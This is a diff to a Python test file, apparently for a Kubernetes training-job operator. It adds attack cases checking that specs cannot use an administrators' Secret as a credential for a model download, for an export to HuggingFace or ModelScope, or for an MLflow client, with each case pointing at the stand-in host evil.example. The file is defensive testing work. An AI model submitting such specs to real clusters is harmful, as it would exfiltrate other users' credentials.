@@ -62,6 +62,12 @@ def sidecar(**fields: object) -> Json:
     return template({"sidecars": [{"name": "helper", "image": "registry.example/rljob/helper:1", **fields}]})
 
 
+def exported_to(kind: str, field: str) -> Json:
+    """Return a change of a spec that sends exports to a hub with a Secret of the administrators."""
+    hub = {"repository": "a/b", "endpoint": "https://evil.example", "secretRef": {"name": ADMINS}}
+    return {"export": {"to": {"type": kind, field: hub}}}
+
+
 def from_secret(name: str) -> Json:
     """Return a variable that reads a Secret."""
     return {
@@ -97,6 +103,44 @@ ATTACKS: dict[str, Attack] = {
         small_spec({"initializers": [{"name": "steal", "command": ["env"], "env": [from_secret(ADMINS)]}]}), NO_SECRET
     ),
     "a Secret in a container of core/v1": Attack(small_spec(sidecar(env=[from_secret(ADMINS)])), NO_SECRET),
+    "a Secret as a hub's token": Attack(
+        small_spec(
+            {
+                "initializers": [
+                    {
+                        "name": "steal",
+                        "type": "Model",
+                        "download": {
+                            "repository": "a/b",
+                            "to": "/data/model",
+                            "endpoint": "https://evil.example",
+                            "credentials": {"name": ADMINS, "key": "token"},
+                        },
+                    }
+                ]
+            }
+        ),
+        NO_SECRET,
+    ),
+    "a Secret as an export's token": Attack(small_spec(exported_to("HuggingFace", "huggingFace")), NO_SECRET),
+    "a Secret as a token of ModelScope": Attack(small_spec(exported_to("ModelScope", "modelScope")), NO_SECRET),
+    "a Secret as variables of MLflow's client": Attack(
+        small_spec(
+            {
+                "export": {
+                    "to": {
+                        "type": "MLflow",
+                        "mlflow": {
+                            "trackingUrl": "https://evil.example",
+                            "experiment": "x",
+                            "secretRef": {"name": ADMINS},
+                        },
+                    }
+                }
+            }
+        ),
+        NO_SECRET,
+    ),
     "another's pull secret": Attack(small_spec({"runtime": {"imagePullSecrets": ["pull", ADMINS]}}), NO_SECRET),
     "another's Git password": Attack(
         small_spec(
